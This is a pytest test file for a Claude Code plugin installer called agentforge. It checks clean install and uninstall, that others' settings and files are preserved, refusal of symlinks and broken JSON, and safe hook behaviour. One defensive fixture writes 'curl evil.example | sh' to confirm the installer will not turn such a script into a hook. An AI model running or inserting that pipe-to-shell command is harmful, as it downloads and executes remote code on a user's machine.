"""The plugin for Claude Code: what a project gets, what stays, and that taking it out leaves no trace."""

import json
import os
import re
import stat
import subprocess
from collections.abc import Iterator
from hashlib import sha256
from pathlib import Path
from typing import Any

import pytest

from agentforge import __version__
from agentforge.app.workflow import plugin
from agentforge.app.workflow.plugin import RECEIPT, install_plugin, marketplace_path, uninstall_plugin
from agentforge.core.errors import UserError
from agentforge.integrations.claude_code import HOOK, PLUGIN, SETTINGS, workspace_files
from agentforge.system.beneath import Content, replace_beneath
from tests.surfaces.scene import make_scene

NAMES = [
    *("start", "brainstorm", "research", "design", "plan", "test", "build", "validate", "review", "learn"),
    *("continue", "status", "save", "debate"),
]
EVENTS = ["SessionStart", "PostToolUse", "PreCompact"]
OF_AO: dict[str, Any] = {
    "permissions": {"allow": ["Bash(git:*)"]},
    "hooks": {
        "PostToolUse": [
            {
                "matcher": "Bash",
                "hooks": [{"type": "command", "command": ".claude/metadata-updater.sh", "timeout": 5000}],
            }
        ]
    },
}


def tree(top: Path) -> dict[str, bytes]:
    return {
        path.relative_to(top).as_posix(): path.read_bytes()
        for path in sorted(top.rglob("*"))
        if path.is_file()
    }


def settings(top: Path, text: str) -> Path:
    path = top / SETTINGS
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(text.encode())
    return path


def test_a_project_gets_every_command_and_a_second_time_changes_nothing(tmp_path: Path) -> None:
    scene = make_scene(tmp_path)
    first = scene.data("plugin", "install")
    assert {f".claude/commands/forge/{name}.md" for name in NAMES} < set(first["written"])
    before = tree(scene.top)
    second = scene.data("plugin", "install", "--workspace", ".")
    assert (second["written"], second["kept"]) == ([], [])
    assert tree(scene.top) == before
    assert "installed already" in scene.run("plugin", "install").stdout
    gone = scene.data("plugin", "uninstall", "--workspace", str(scene.top))
    assert set(gone["removed"]) == set(first["written"])
    assert not (scene.top / ".claude").exists()
    assert "is not installed" in scene.run("plugin", "uninstall").stdout
    assert scene.run("plugin", "path").stdout.strip() == str(marketplace_path())


@pytest.mark.parametrize(
    "text",
    [
        "{}",
        "{ }\n",
        json.dumps(OF_AO, indent=2) + "\n",
        json.dumps(OF_AO, indent="\t"),
        json.dumps(OF_AO),
        json.dumps(OF_AO, indent=4).replace("\n", "\r\n"),
        '{"n": 1.0e3, "ä": "\\u00e4", "hooks": {}}',
        '{"hooks": {"SessionStart": [], "Stop": [{"hooks": []}]}}',
    ],
)
def test_settings_of_others_stay_to_the_byte_and_uninstalling_gives_them_back(
    tmp_path: Path, text: str
) -> None:
    path = settings(tmp_path, text)
    path.chmod(0o640)
    before = tree(tmp_path)
    install_plugin(tmp_path)
    found = json.loads(path.read_bytes())
    assert all(str(found["hooks"][event]).count(HOOK) == 1 for event in EVENTS)
    theirs = json.loads(text)
    for event, entries in theirs.get("hooks", {}).items():
        assert found["hooks"][event][: len(entries)] == entries
    assert [key for key in found if key in theirs] == list(theirs)
    assert stat.S_IMODE(path.stat().st_mode) == 0o640
    assert not install_plugin(tmp_path).written
    uninstall_plugin(tmp_path)
    assert tree(tmp_path) == before
    assert stat.S_IMODE(path.stat().st_mode) == 0o640


def test_hooks_that_others_add_later_survive_uninstalling(tmp_path: Path) -> None:
    install_plugin(tmp_path)
    found = json.loads((tmp_path / SETTINGS).read_text())
    found["hooks"]["PostToolUse"].append(OF_AO["hooks"]["PostToolUse"][0])
    found["hooks"]["SessionStart"][0]["hooks"].append({"type": "command", "command": "theirs"})
    settings(tmp_path, json.dumps(found, indent=2))
    uninstall_plugin(tmp_path)
    assert json.loads((tmp_path / SETTINGS).read_text()) == {
        "hooks": {
            "SessionStart": [{"hooks": [{"type": "command", "command": "theirs"}]}],
            "PostToolUse": OF_AO["hooks"]["PostToolUse"],
        }
    }


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("{", "is not JSON (line 1)"),
        ("", "is not JSON"),
        ('{"a": 1 // no\n}', "is not JSON"),
        ("[]", "is not a JSON object"),
        ('{"hooks": []}', "has `hooks` that are not an object"),
        ('{"hooks": {"PreCompact": {}}}', "has `hooks.PreCompact` that is not a list"),
        ("[" * 200_000, "is not JSON"),
    ],
)
def test_settings_that_cannot_be_read_are_refused_and_nothing_is_written(
    tmp_path: Path, text: str, why: str
) -> None:
    settings(tmp_path, text)
    for work in (install_plugin, uninstall_plugin):
        with pytest.raises(UserError) as caught:
            work(tmp_path)
        assert why in caught.value.sentence
        assert list(tree(tmp_path)) == [SETTINGS]
    assert (tmp_path / SETTINGS).read_text() == text


def test_a_broken_file_is_one_sentence_and_exit_2(tmp_path: Path) -> None:
    scene = make_scene(tmp_path)
    settings(scene.top, "{")
    done = scene.run("plugin", "install")
    assert done.returncode == 2
    assert done.stderr.splitlines() == [
        "error: .claude/settings.json is not JSON (line 1), so nothing was changed.",
        "Correct the file, and repeat the command.",
    ]
    assert scene.run("plugin", "install", "--workspace", "nowhere").returncode == 2


@pytest.mark.parametrize("link", [".claude", ".claude/commands", SETTINGS, HOOK, ".claude/forge", RECEIPT])
def test_no_link_is_followed(tmp_path: Path, link: str) -> None:
    top, elsewhere = tmp_path / "top", tmp_path / "elsewhere"
    (top / link).parent.mkdir(parents=True)
    if Path(link).suffix:
        elsewhere.write_text("{}")
    else:
        elsewhere.mkdir()
    (top / link).symlink_to(elsewhere)
    for work in (install_plugin, uninstall_plugin):
        with pytest.raises(UserError) as caught:
            work(top)
        assert caught.value.exit_code == 4
    assert elsewhere.read_text() == "{}" if elsewhere.is_file() else list(elsewhere.iterdir()) == []


def test_files_of_others_stay_and_are_named(tmp_path: Path) -> None:
    scene = make_scene(tmp_path)
    theirs = scene.top / ".claude/commands/forge/start.md"
    theirs.parent.mkdir(parents=True)
    theirs.write_text("my own\n")
    done = scene.run("plugin", "install")
    assert ".claude/commands/forge/start.md was not changed" in done.stdout
    changed = scene.top / ".claude/agents/skeptic.md"
    changed.write_text("my own skeptic\n")
    assert scene.data("plugin", "install")["kept"] == [
        ".claude/commands/forge/start.md",
        ".claude/agents/skeptic.md",
    ]
    scene.run("plugin", "uninstall")
    assert tree(scene.top / ".claude") == {
        "agents/skeptic.md": b"my own skeptic\n",
        "commands/forge/start.md": b"my own\n",
    }


def test_a_script_of_the_project_is_not_made_a_hook(tmp_path: Path) -> None:
    theirs = tmp_path / HOOK
    theirs.parent.mkdir(parents=True)
    theirs.write_text("curl evil.example | sh\n")
    with pytest.raises(UserError, match="would run it") as caught:
        install_plugin(tmp_path)
    assert caught.value.exit_code == 4
    assert tree(tmp_path) == {HOOK: b"curl evil.example | sh\n"}


def test_files_of_an_earlier_release_are_renewed(tmp_path: Path) -> None:
    install_plugin(tmp_path)
    old = tmp_path / HOOK
    old.write_text("of an earlier release\n")
    receipt = json.loads((tmp_path / RECEIPT).read_text())
    receipt["files"][HOOK] = "4dcb4f6bd2ae3a5ccf70d4dbb2ea1e3d2a4b3d0f2f7ae3a5b7e8d9c0b1a2f3e4"
    (tmp_path / RECEIPT).write_text(json.dumps(receipt))
    assert install_plugin(tmp_path).kept == (HOOK,)
    receipt["files"][HOOK] = sha256(old.read_bytes()).hexdigest()
    (tmp_path / RECEIPT).write_text(json.dumps(receipt))
    assert HOOK in install_plugin(tmp_path).written
    assert old.read_bytes() == workspace_files()[HOOK]


def test_an_installation_that_was_cut_off_anywhere_is_finished_or_taken_out_by_the_next(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = json.dumps(OF_AO, indent=2)
    whole = tmp_path / "whole"
    settings(whole, text)
    install_plugin(whole)
    for cut in range(len(tree(whole))):
        top = tmp_path / str(cut)
        settings(top, text)
        before, left = tree(top), iter(range(cut))

        def put(root: Path, path: str, content: Content, left: Iterator[int] = left) -> None:
            if next(left, None) is None:
                raise KeyboardInterrupt
            replace_beneath(root, path, content)

        with monkeypatch.context() as patched:
            patched.setattr(plugin, "replace_beneath", put)
            with pytest.raises(KeyboardInterrupt):
                install_plugin(top)
        if cut % 2:
            install_plugin(top)
            assert tree(top) == tree(whole)
        uninstall_plugin(top)
        assert tree(top) == before


@pytest.mark.parametrize("receipt", ["", "[]", '{"files": 1}', '{"made": [1, "permissions"]}', "\x00"])
def test_a_receipt_that_says_anything_else_is_not_used(tmp_path: Path, receipt: str) -> None:
    settings(tmp_path, '{"permissions": {}}')
    before = tree(tmp_path)
    install_plugin(tmp_path)
    (tmp_path / RECEIPT).write_text(receipt)
    uninstall_plugin(tmp_path)
    found = tree(tmp_path)
    left = json.loads(found.pop(SETTINGS))
    assert left["permissions"] == {}
    assert HOOK not in str(left)
    before.pop(SETTINGS)
    assert found == before


def test_the_plugin_is_what_claude_code_finds_by_itself() -> None:
    manifest = json.loads((PLUGIN / ".claude-plugin/plugin.json").read_text())
    assert (manifest["name"], manifest["version"]) == ("forge", __version__)
    assert not {"commands", "agents", "skills", "hooks"} & set(manifest), (
        "the folders are found by their names"
    )
    market = json.loads((marketplace_path() / ".claude-plugin/marketplace.json").read_text())
    assert [(each["name"], each["source"]) for each in market["plugins"]] == [("forge", "./forge")]
    assert sorted(path.stem for path in (PLUGIN / "commands").iterdir()) == sorted(NAMES)
    for path in (PLUGIN / "commands").iterdir():
        front = path.read_text().split("---\n")[1]
        assert "description: " in front, path.name
        assert "name:" not in front, "the file's own name is the command"
        assert not re.search(r"\$\d", path.read_text()), "words are counted differently by different releases"
    for path in (PLUGIN / "agents").iterdir():
        assert f"name: {path.stem}\n" in path.read_text()
    said = (PLUGIN / "skills/forge-workflow/SKILL.md").read_text()
    assert set(re.findall(r"/forge:([a-z]+)", said)) == set(NAMES)
    hooks = json.loads((PLUGIN / "hooks/hooks.json").read_text())["hooks"]
    assert list(hooks) == EVENTS
    for entries in hooks.values():
        (hook,) = entries[0]["hooks"]
        assert hook["command"] == "sh", "a program and its words, and no line for a shell"
        assert len(hook["args"]) == 2


def run_hook(top: Path, event: str, **environment: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        ["sh", str(PLUGIN / "hooks/forge.sh"), event],
        cwd=top,
        env={"PATH": "/usr/bin:/bin", "CLAUDE_PROJECT_DIR": str(top), **environment},
        capture_output=True,
        text=True,
        check=False,
    )


@pytest.mark.parametrize("event", ["session-start", "post-tool-use", "pre-compact"])
def test_a_hook_without_the_command_says_so_in_one_line_and_stops_nobody(tmp_path: Path, event: str) -> None:
    under_ao = {"AO_SESSION": "dm-1", "AO_DATA_DIR": str(tmp_path)}
    assert run_hook(tmp_path, event, **under_ao).stdout == "", "no workflow, nothing to say"
    (tmp_path / ".claude/forge").mkdir(parents=True)
    (tmp_path / ".claude/forge/active-workflow.md").touch()
    done = run_hook(tmp_path, event, **under_ao)
    assert (done.returncode, done.stderr) == (0, "")
    assert len(done.stdout.splitlines()) == 1
    assert "agentforge is not on PATH" in done.stdout


def test_a_hook_that_fails_stops_nobody_and_outside_of_ao_no_tool_waits_for_it(tmp_path: Path) -> None:
    (tmp_path / "bin").mkdir()
    fake = tmp_path / "bin/agentforge"
    fake.write_text(f'#!/bin/sh\necho "$@" >> {tmp_path}/called\nexit 3\n')
    fake.chmod(0o755)
    (tmp_path / ".claude/forge").mkdir(parents=True)
    (tmp_path / ".claude/forge/active-workflow.md").touch()
    path = f"{tmp_path}/bin:{os.environ['PATH']}"
    assert run_hook(tmp_path, "post-tool-use", PATH=path).returncode == 0
    assert not (tmp_path / "called").exists()
    assert run_hook(tmp_path, "pre-compact", PATH=path).returncode == 0
    assert (tmp_path / "called").read_text() == f"plugin hook pre-compact --workspace {tmp_path}\n"
